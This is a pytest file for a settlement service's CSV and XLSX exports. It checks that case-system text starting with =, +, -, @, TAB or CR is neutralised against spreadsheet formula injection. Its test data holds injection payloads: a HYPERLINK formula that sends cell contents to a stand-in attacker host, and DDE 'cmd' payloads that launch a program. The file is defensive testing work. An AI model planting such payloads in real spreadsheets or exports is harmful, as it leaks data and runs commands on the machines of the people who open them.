"""Formula injection (issue 7, finding 7): text from case systems never becomes a formula.

A case system chooses `vedtak_id` freely; Hdir and auditors open the exports in a
spreadsheet. Text cells that start with `=`, `+`, `-`, `@`, TAB or CR are neutralised: a
leading single quote in CSV, a plain string cell with `quotePrefix` in XLSX. Numbers, a
negative amount too, stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from services.settlement.entrypoints.api.eksport import (
    BELOP,
    Ark,
    Kolonne,
    skriv_arbeidsbok,
    skriv_csv,
)
from tests.conftest import HDIR, HOBOL, Token
from tests.hendelser import fattet, rapport
from tests.web.scenario import HDIR_SCOPES, VEDTAK_SKRIV

FARLIGE = [
    '=HYPERLINK("https://angriper.example/?d="&A1,"Klikk")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]
# Printable ones only over HTTP: the contract may refuse control characters in text.
FARLIGE_HTTP = [f for f in FARLIGE if f.isprintable()]
UFARLIGE = ["V1", "a=b", "0138", "x-1", " =1+1"]


def _ark(tekster: list[str]) -> Ark:
    return Ark(
        "Vedtak",
        ["vedtak_id", Kolonne("belop", BELOP), "merknad", "flagg"],
        [(t, Decimal("-38061.72"), "-12.50", [t, "b"]) for t in tekster],
    )


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=";"))


def test_csv_prefikser_tekst_som_kan_bli_en_formel() -> None:
    rader = _csv(skriv_csv(_ark(FARLIGE + UFARLIGE)))
    assert rader[0] == ["vedtak_id", "belop", "merknad", "flagg"]
    forventet = [["'" + t, "-38061.72", "-12.50", f"'{t},b"] for t in FARLIGE] + [
        [t, "-38061.72", "-12.50", f"{t},b"] for t in UFARLIGE
    ]
    assert rader[1:] == forventet


def test_xlsx_skriver_tekst_som_streng_aldri_som_formel() -> None:
    bok = load_workbook(io.BytesIO(skriv_arbeidsbok([_ark(FARLIGE + UFARLIGE)])))
    blad = bok["Vedtak"]
    for i, tekst in enumerate(FARLIGE + UFARLIGE, start=2):
        celle = blad.cell(row=i, column=1)
        # XML parsers normalise a bare CR to LF when reading; the cell stays text either way.
        assert (celle.data_type, celle.value) == ("s", tekst.replace("\r", "\n")), tekst
        assert celle.quotePrefix is (tekst in FARLIGE), tekst
        flagg = blad.cell(row=i, column=4)
        assert (flagg.data_type, flagg.value) == ("s", f"{tekst},b".replace("\r", "\n"))
        belop = blad.cell(row=i, column=2)
        assert (belop.data_type, belop.value, belop.quotePrefix) == ("n", -38061.72, False)
        # A negative figure in a text column is still not prefixed.
        merknad = blad.cell(row=i, column=3)
        assert (merknad.data_type, merknad.value, merknad.quotePrefix) == ("s", "-12.50", False)


def _last_farlige(klient: TestClient, auth: Token) -> None:
    hdir = auth(HDIR, HDIR_SCOPES)
    satser = {"satser": [{"tjenestekode": "HTAMDK", "sats": "724.00"}], "kilde": "test"}
    assert klient.put("/v1/satser/2017", json=satser, headers=hdir).status_code == 200
    hendelser: list[dict[str, Any]] = []
    for i, vid in enumerate(FARLIGE_HTTP):
        hendelser += [
            fattet(vid, bruker_ref=f"B-{i}"),
            rapport(vid, "2017-01-01", "2017-03-31", "1"),
        ]
    svar = klient.post(
        "/v1/hendelser", json={"hendelser": hendelser}, headers=auth(HOBOL, VEDTAK_SKRIV)
    )
    assert svar.status_code == 200, svar.text


@pytest.mark.parametrize(
    ("url", "params", "tabell"),
    [
        ("/v1/kommuner/0138/oppgjor/2017/1", {"detaljer": "vedtak"}, "Vedtak"),
        ("/v1/revisjon/kommuner/0138/2017/1/vedtatt-utfort", {}, "Vedtak"),
    ],
)
def test_eksportene_noytraliserer_vedtak_id(
    klient: TestClient, auth: Token, url: str, params: dict[str, str], tabell: str
) -> None:
    _last_farlige(klient, auth)
    hdir = auth(HDIR, HDIR_SCOPES)

    svar = klient.get(url, headers=hdir, params={**params, "format": "csv", "tabell": "vedtak"})
    assert svar.status_code == 200, svar.text
    rader = list(csv.DictReader(io.StringIO(svar.content.decode("utf-8")), delimiter=";"))
    assert sorted(r["vedtak_id"] for r in rader) == sorted("'" + v for v in FARLIGE_HTTP)

    svar = klient.get(
        url, headers=hdir, params={**params, "format": "excel-csv", "tabell": "vedtak"}
    )
    assert svar.status_code == 200, svar.text
    tekst = svar.content.decode("utf-8-sig")
    rader = list(csv.DictReader(io.StringIO(tekst), delimiter=";"))
    assert sorted(r["Vedtak-ID"] for r in rader) == sorted("'" + v for v in FARLIGE_HTTP)

    svar = klient.get(url, headers=hdir, params={**params, "format": "xlsx"})
    assert svar.status_code == 200, svar.text
    blad = load_workbook(io.BytesIO(svar.content))[tabell]
    hode = [c.value for c in blad[1]]
    kolonne = hode.index("Vedtak-ID") + 1
    celler = [blad.cell(row=i, column=kolonne) for i in range(2, blad.max_row + 1)]
    assert sorted(str(c.value) for c in celler) == sorted(FARLIGE_HTTP)
    assert all(c.data_type == "s" and c.quotePrefix for c in celler)
